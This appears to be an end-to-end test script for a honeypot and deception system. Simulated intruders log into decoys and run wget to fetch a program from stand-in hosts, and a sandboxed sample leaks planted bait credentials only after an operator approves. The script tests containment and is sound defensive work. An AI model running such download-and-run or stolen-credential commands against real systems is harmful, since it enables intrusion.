#!/bin/bash
# The whole circle: a page named at a decoy is visited, the program that it gives is run, the bait that it steals
# leaves in the one request that the operator approved, whoever has it logs in at a decoy, and what he puts there is
# visited in turn.  Captures show that nothing else left.
. "$(dirname "$0")/lib.sh"
two_networks
for tool in bwrap; do [ -n "$(command -v $tool)" ] || skip "$tool is missing"; done
PAGES=203.0.113.10 THIEF=203.0.113.20
ip netns exec $OUTSIDE python3 tests/e2e/cycle_world.py $PAGES $THIEF "$WORK/world" 2>"$WORK/world.err" & SERVERS=$!
for _ in $(seq 50); do grep -qs ready "$WORK/world" && break; sleep 0.1; done

loopback_config <<EOT
operator: {name: Test CSIRT, contact: abuse@example.org}
store: {linger: 50ms}
passive:
  workers: 1
  decoys: [{prefix: 192.0.2.0/30, personas: [router]}, {prefix: 192.0.2.4/30, personas: [dvr]}]
  services: {telnet: {ports: [23]}}
active:
  scope: [{prefix: 203.0.113.0/24, special: allow}]
  addresses: [198.51.100.9]
  hold_out: 0
prober: {pause: 1ms}
visit: {ways: [crawl], time: 20s}
lab: {run: {on: true, time: 6s}, bait: 192.0.2.5}
control: {silent_decoys: 0}
rules:
  - {name: named, on: command.sent, do: visit, delay: 0s}
  - {name: stolen, on: token.leaked, do: leak}
EOT
capture_begin
start_kansoku
value() { echo "value[indexOf(field, '$1')]"; }
wait_for() { # what SQL
	for _ in $(seq 120); do
		[ "$(query "SELECT count() > 0 FROM log WHERE $2" 2>/dev/null)" = 1 ] && return
		sleep 0.25
	done
	fail "$1 did not come: $(query "SELECT kind, src, decision, reason, field, value FROM log WHERE kind NOT IN ('sensor.changed', 'flow.counted') ORDER BY id LIMIT 60"; cat "$WORK/world")"
}
# 1. A page is named, visited, and gives a program.
intrude_from 203.0.113.77 192.0.2.1 root root "wget http://$PAGES/start" >/dev/null
wait_for "the visit" "kind = 'page.visited' AND $(value page.url) = 'http://$PAGES/start'"
wait_for "the program that it gave" "kind = 'file.captured' AND process = 'visit'"
sha=$(query "SELECT file_sha256 FROM log WHERE kind = 'file.captured' AND process = 'visit' LIMIT 1")
# 2. The program steals bait in its box; nothing of that has left.
wait_for "the analysis" "kind = 'sample.analysed' AND file_sha256 = '$sha'"
wait_for "the leak" "kind = 'token.leaked' AND file_sha256 = '$sha' AND src = '$THIEF'"
grep THIEF "$WORK/world" && fail "something left without approval"
# 3. The operator reads the request, and approves these bytes.
for _ in $(seq 40); do
	"$KANSOKU" approve --config "$CONFIG" --json >"$WORK/waiting" && grep -q egress "$WORK/waiting" >/dev/null && break
	sleep 0.25
done
row=$(jq -c 'select(.kind == "egress")' "$WORK/waiting" | head -1)
[ -n "$row" ] || fail "nothing waits for approval: $(cat "$WORK/waiting")"
text=$(jq -r .text <<<"$row" | sed 's/../\\x&/g')
grep -q '^LOOT machine 192.0.2.5 login' <<<"$(printf "$text")" || fail "another text waits: $row"
sleep 2
grep THIEF "$WORK/world" && fail "it left before it was approved"
"$KANSOKU" approve --config "$CONFIG" "$(jq -r .id <<<"$row")" --yes "$(jq -r .sha256 <<<"$row")" --by tester >"$WORK/said" 2>&1 ||
	fail "approve: $(cat "$WORK/said")"
for _ in $(seq 80); do grep -q "^THIEF 198.51.100.9 LOOT" "$WORK/world" && break; sleep 0.25; done
grep -q "^THIEF 198.51.100.9 LOOT" "$WORK/world" || fail "the approved request did not come: $(cat "$WORK/world"; query "SELECT kind, src, decision, reason, field, value FROM log WHERE kind = 'decision.made' ORDER BY id DESC LIMIT 10")"
# 4. The thief's customer uses it, and leaves something.
loot=$(grep -m1 "^THIEF" "$WORK/world")
user=$(sed 's/.*login \([a-z]*\) .*/\1/' <<<"$loot") password=$(sed 's/.*password \([A-Za-z0-9]*\).*/\1/' <<<"$loot")
intrude_from 203.0.113.88 192.0.2.5 "$user" "$password" "wget http://$PAGES/injected" >"$WORK/intruder"
wait_for "that bait was used" "kind = 'token.used' AND src = '203.0.113.88' AND file_sha256 = '$sha'"
# 5. What he left is visited.
wait_for "the second visit" "kind = 'page.visited' AND $(value page.url) = 'http://$PAGES/injected'"
# All of it is one chain, from the first command to the stolen password's use.
[ "$(query "SELECT count() FROM log AS u INNER JOIN (SELECT id, root FROM log WHERE kind = 'token.planted') AS p ON u.cause = p.id
	INNER JOIN (SELECT root FROM log WHERE kind = 'page.visited' AND $(value page.url) = 'http://$PAGES/start') AS v ON p.root = v.root
	WHERE u.kind = 'token.used'")" -ge 1 ] || fail "the use of bait does not go back to the first page"
stop_kansoku || fail "it did not stop in order"
capture_end
# One connection to the thief, with the approved bytes and no answer to his order.
[ "$(packets "ip.dst == $THIEF && tcp.flags.syn == 1 && tcp.flags.ack == 0" | wc -l)" = 1 ] || fail "more than one connection to the thief"
[ "$(packets "ip.dst == $THIEF && tcp.len > 0" | wc -l)" = 1 ] || fail "more was said than approved"
others=$(packets "ip.src == 198.51.100.9 && ip.dst != $THIEF && ip.dst != $PAGES" ip.dst | sort | uniq -c)
[ -z "$others" ] || fail "other addresses were spoken to: $others"
echo "ok: page, program, approved leak, log-in, injected page: one chain"
